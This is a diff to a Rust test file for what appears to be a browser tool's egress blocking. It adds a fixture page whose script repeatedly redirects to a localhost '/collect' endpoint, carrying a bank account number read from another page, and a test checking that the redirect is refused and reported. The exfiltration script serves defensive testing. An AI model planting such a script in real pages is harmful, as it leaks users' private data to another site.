@@ -1,10 +1,13 @@
 //! What was read on one site does not leave for another because a page says so.
 
-use std::fs;
+use std::{fs, time::Duration};
 
 use serde_json::Value;
 
-use crate::{project::Project, site::Site};
+use crate::{
+    project::{Project, eventually},
+    site::Site,
+};
 
 const MAIL: &str = "<title>Mail</title><p>From Grace Hopper: the merger with Initech closes on \
     Friday, keep it quiet.</p><p>IBAN DE89 3704 0044 0532 0130 00</p>\
@@ -92,6 +95,41 @@ fn what_an_error_quotes_does_not_leave_either() {
         let (reason, _) = project.fail(&["goto", &collect(text)]);
         assert_eq!(reason, "EGRESS_DENIED", "{line:?}");
     }
+}
+
+/// Sends what stands in its address to another site, after a while and again and again.
+const LATER: &str = "<title>Later</title><script>setInterval(() => { \
+    location.href = 'http://localhost:PORT/collect?d=' + location.search.slice(1) }, 700)</script>";
+
+#[test]
+fn what_a_page_sends_after_the_call_is_refused_and_reported_once() {
+    let site = Site::serve(&[("/mail", MAIL), ("/later", LATER), ("/collect", "thanks")]);
+    let project = Project::new().with("BROWSE_SECURITY_EGRESS", "block");
+    project.ok(&["goto", &site.url("/mail")]);
+    project.ok(&["text"]);
+    project.ok(&["goto", &site.url("/later?DE89370400440532013000")]);
+    let reported = eventually(Duration::from_secs(20), || {
+        let output = project.run(&["url"]);
+        assert!(output.stdout.contains("/later"), "{output:?}");
+        if output.stderr.contains("was refused a document") {
+            Ok(output.stderr)
+        } else {
+            Err(output)
+        }
+    });
+    let reported = reported.expect("it is reported");
+    assert!(reported.contains("would lead to localhost"), "{reported}");
+    assert!(reported.contains("browse approve"), "{reported}");
+    // The page tries again: that is refused as well.
+    let again = eventually(Duration::from_secs(20), || {
+        let output = project.run(&["url"]);
+        if output.stderr.contains("was refused a document") {
+            Ok(output.stdout)
+        } else {
+            Err(output)
+        }
+    });
+    assert!(again.expect("it is refused again").contains("/later"));
 }
 
 #[test]
